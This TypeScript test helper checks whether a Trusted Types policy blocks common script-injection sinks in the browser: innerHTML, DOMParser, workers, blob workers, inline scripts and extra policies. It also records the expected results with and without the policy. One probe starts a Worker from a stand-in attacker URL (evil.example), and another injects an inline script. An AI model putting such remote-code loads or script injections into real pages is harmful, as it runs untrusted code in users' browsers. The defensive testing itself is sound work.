/** What became of each trick: «done», or the name of the error that it met. */
type Tricks = Readonly<Record<string, string>>;

/** Held back by the policy in browsers that know Trusted Types, each by a TypeError. */
export const heldBack: Tricks = {
  html: "TypeError",
  parsed: "TypeError",
  worker: "TypeError",
  blob: "TypeError",
  script: "TypeError",
  policy: "TypeError",
  ran: "no",
};
/** Without it nothing stands in the way; of a stranger's worker each browser has its own opinion. */
export const letThrough: Tricks = {
  html: "done",
  parsed: "done",
  blob: "done",
  script: "done",
  policy: "done",
  ran: "yes",
};

declare const trustedTypes: { createPolicy: (name: string, rules: object) => unknown };

/** What a script that got in somehow would try first. Runs in the page of either browser, and uses nothing around it. */
export function tryTricks(): Tricks {
  // oxlint-disable-next-line unicorn/consistent-function-scoping -- goes into the page with the function around it
  const attempt = (act: () => unknown): string => {
    try {
      act();
      return "done";
    } catch (error) {
      return error instanceof Error || error instanceof DOMException ? error.name : "unknown";
    }
  };
  const script = document.createElement("script");
  const tried = {
    html: attempt(() => (document.createElement("div").innerHTML = "<b>x</b>")),
    parsed: attempt(() => new DOMParser().parseFromString("<b>x</b>", "text/html")),
    worker: attempt(() => new Worker("https://evil.example/x.js")),
    blob: attempt(() => new Worker(URL.createObjectURL(new Blob(["1"])))),
    script: attempt(() => {
      script.textContent = "globalThis.ranInline = true";
      document.head.append(script);
    }),
    policy: attempt(() => trustedTypes.createPolicy("another", {})),
  };
  return { ...tried, ran: "ranInline" in globalThis ? "yes" : "no" };
}
